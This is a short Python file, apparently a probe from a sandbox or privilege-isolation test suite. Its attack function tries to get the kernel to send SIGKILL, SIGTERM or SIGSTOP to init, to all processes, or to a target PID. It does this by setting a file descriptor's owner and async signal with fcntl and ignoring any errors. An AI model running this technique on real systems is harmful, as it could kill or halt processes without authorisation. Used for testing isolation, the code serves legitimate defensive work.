"""Let the kernel send the signals that one may not send: asynchronous I/O, owned by others."""

import fcntl
import os

SET_SIGNAL = 10


def attack(sample, item):
    for owner in (1, -1, item["pid"]):
        for number in (0, 9, 15, 19):
            try:
                fcntl.fcntl(3, fcntl.F_SETOWN, owner)
                fcntl.fcntl(3, SET_SIGNAL, number)
                fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC | os.O_RDWR)
                os.write(3, b" ")
            except OSError:
                pass
    return False
